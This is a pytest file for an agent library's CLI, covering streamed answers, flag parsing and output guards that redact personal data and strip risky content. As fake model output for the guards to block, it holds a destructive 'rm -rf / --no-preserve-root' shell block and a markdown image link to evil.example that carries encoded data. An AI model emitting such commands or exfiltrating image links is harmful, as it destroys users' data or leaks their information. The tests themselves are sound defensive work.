"""``corral run`` streams the answer as the model writes it; ``--debug`` anywhere; engine flags without a spec."""

from __future__ import annotations

import io
import threading

import pytest

from corral import Agent, UsageError, cli
from corral.backends.base import Completion, CompletionDelta
from corral.cli import commands


class _Watched(io.StringIO):
    """stdout that notes when the first answer text arrives."""

    def __init__(self) -> None:
        super().__init__()
        self.seen = threading.Event()

    def write(self, text: str) -> int:
        if text.strip():
            self.seen.set()
        return super().write(text)


class _HalfThenWait:
    """A streaming backend that sends half the answer, then waits until the CLI has printed it."""

    def __init__(self, out: _Watched) -> None:
        self.out = out

    def complete(self, prompt, *, stop=(), max_tokens=256, grammar=None):  # pragma: no cover - streaming is used
        raise AssertionError("corral run should stream")

    def stream(self, prompt, *, stop=(), max_tokens=256, grammar=None):
        yield CompletionDelta(text="Half of ")
        rest = "it, streamed." if self.out.seen.wait(20) else "it, but nothing was printed in between."
        yield CompletionDelta(text=rest)
        yield Completion(text="Half of " + rest, prompt_tokens=1, prompt_tokens_evaluated=1, completion_tokens=2)


def test_run_prints_the_first_tokens_before_the_model_is_done(monkeypatch, capsys):
    out = _Watched()
    agent = Agent(_HalfThenWait(out), guards=None, format="llama3.2")
    monkeypatch.setattr(commands, "agent_from_args", lambda args: (None, agent))
    monkeypatch.setattr("sys.stdout", out)
    assert cli.main(["run", "go"]) == 0
    assert out.getvalue() == "Half of it, streamed.\n"


def test_debug_is_accepted_after_the_command_and_errors_name_it(tmp_path, capsys):
    missing = str(tmp_path / "nope.toml")
    assert cli.main(["run", "hi", "--spec", missing]) == cli.EXIT_USAGE
    assert "(--debug shows the traceback)" in capsys.readouterr().err
    with pytest.raises(Exception, match="nope.toml"):
        cli.main(["run", "hi", "--spec", missing, "--debug"])
    with pytest.raises(SystemExit):
        cli.main(["run"])  # an argparse error names --debug too
    assert "(--debug shows the traceback)" in capsys.readouterr().err


def test_engine_flags_reach_the_spec_without_a_spec_file():
    args = cli.build_parser().parse_args(
        ["run", "hi", "--threads", "3", "--temperature", "0.7", "--max-tokens", "99", "--timeout", "12.5"]
    )
    spec = commands.spec_from_args(args)
    assert (spec.backend.n_threads, spec.backend.temperature) == (3, 0.7)
    assert (spec.limits.max_tokens, spec.limits.timeout) == (99, 12.5)
    chat = cli.build_parser().parse_args(["chat", "--threads", "2"])
    assert commands.spec_from_args(chat).backend.n_threads == 2


def test_threads_on_a_server_backend_is_refused_clearly():
    args = cli.build_parser().parse_args(["run", "hi", "--base-url", "http://127.0.0.1:9/v1", "--threads", "2"])
    with pytest.raises(UsageError, match="--threads applies to the llamacpp"):
        commands.spec_from_args(args)


def test_a_tool_factory_is_called_or_refused_never_exposed(capsys):
    assert cli.main(["tools", "--names", "--tools", "corral.tools.builtin:fetch_url"]) == 0
    assert capsys.readouterr().out.startswith("fetch_url:")  # called: the tool it makes, not the factory
    assert cli.main(["tools", "--tools", "corral.tools.builtin:file_tools"]) == cli.EXIT_USAGE
    err = capsys.readouterr().err
    assert "is a tool factory" in err and "needs root" in err


def test_chat_streams_the_answer_after_its_prompt():
    from corral.cli.chat import ChatSession

    out = _Watched()
    session = ChatSession(Agent(_HalfThenWait(out), guards=None, format="llama3.2"), out=out)
    session.handle("go")
    assert out.getvalue().splitlines()[-1] == "assistant> Half of it, streamed."


class _Script:
    """A streaming backend that sends ``pieces`` one by one; after the first it waits until the CLI
    has printed something (so a test sees text shown before the model is done)."""

    def __init__(self, out: _Watched, pieces: list[str]) -> None:
        self.out, self.pieces, self.waited = out, pieces, None

    def complete(self, prompt, *, stop=(), max_tokens=256, grammar=None):  # pragma: no cover - streaming is used
        raise AssertionError("corral run should stream")

    def stream(self, prompt, *, stop=(), max_tokens=256, grammar=None):
        for n, piece in enumerate(self.pieces):
            yield CompletionDelta(text=piece)
            if n == 0:
                self.waited = self.out.seen.wait(20)
        text = "".join(self.pieces)
        yield Completion(text=text, prompt_tokens=1, prompt_tokens_evaluated=1, completion_tokens=len(self.pieces))


def _run_default_chain(monkeypatch, pieces):
    out = _Watched()
    backend = _Script(out, pieces)
    agent = Agent(backend, format="llama3.2")  # the default guard chain: output has PII and code scanner
    monkeypatch.setattr(commands, "agent_from_args", lambda args: (None, agent))
    monkeypatch.setattr("sys.stdout", out)
    code = cli.main(["run", "go"])
    return code, out.getvalue(), backend


def test_with_the_default_guards_the_answer_streams_sentence_by_sentence_redacted(monkeypatch):
    code, shown, backend = _run_default_chain(
        monkeypatch, ["The report is ready. ", "Mail it to jane", "@example.com today.\n"]
    )
    assert code == 0 and backend.waited  # the first sentence was shown before the model went on
    assert shown == "The report is ready. Mail it to [EMAIL] today.\n"  # streamed once, never the address
    assert "jane@" not in shown


def test_a_code_block_is_held_until_it_closes_and_a_blocked_one_is_never_shown(monkeypatch):
    code, shown, backend = _run_default_chain(
        monkeypatch, ["Run this:\n", "```sh\nrm -rf / ", "--no-preserve-root\n```\n", "Done."]
    )
    assert backend.waited  # "Run this:" was shown first
    assert shown.startswith("Run this:\n[withheld by the output guards]")
    assert "rm -rf" not in shown  # neither while streaming nor when the checked answer is reported
    assert code != 0  # the whole answer was blocked by the loop's own output check


def test_a_composed_image_never_streams_and_one_the_user_gave_streams_as_it_is(monkeypatch):
    code, shown, _ = _run_default_chain(monkeypatch, ["Here: ", "![p](https://evil.example/p.png?d=aGk) ", "Bye.\n"])
    assert code == 0 and "evil.example/p.png" not in shown and "[image removed: evil.example]" in shown
    # The segments are checked with the prompt the run rendered, so an address the user typed is
    # kept while streaming, as the loop's whole-answer check keeps it: shown once.
    mine = "![me](https://photos.example.com/ada.jpg)"
    out = _Watched()
    agent = Agent(_Script(out, ["Here: ", mine + "\n"]), format="llama3.2")
    monkeypatch.setattr(commands, "agent_from_args", lambda args: (None, agent))
    monkeypatch.setattr("sys.stdout", out)
    assert cli.main(["run", f"Show {mine}"]) == 0
    assert out.getvalue() == f"Here: {mine}\n"


def test_the_stream_checks_sentences_with_what_the_model_was_given():
    from corral.cli.output import GuardedAnswerStream
    from corral.events import ModelDelta, ToolResultReady
    from corral.guards import GuardChain
    from corral.result import ToolCallRecord

    mine = "![me](https://photos.example.com/ada.jpg)"
    page = "![chart](https://charts.example.org/q3.png)"

    def shown(*, given=(), events=()):
        out = io.StringIO()
        stream = GuardedAnswerStream(out, GuardChain.default())
        stream.given += list(given)
        for event in events:
            stream.note(event)
        for piece in ["Here: ", f"{mine} and {page}\n"]:
            stream(ModelDelta(run_id="r", turn=1, text=piece))
        stream.finish()
        return out.getvalue()

    assert shown() == "Here: [image removed: photos.example.com] and [image removed: charts.example.org]\n"
    record = ToolCallRecord(id="c1", name="chart", arguments={}, result=f"Q3: {page}", status="ok")
    both = shown(given=[f"Show {mine}"], events=[ToolResultReady(run_id="r", turn=1, record=record)])
    assert both == f"Here: {mine} and {page}\n"
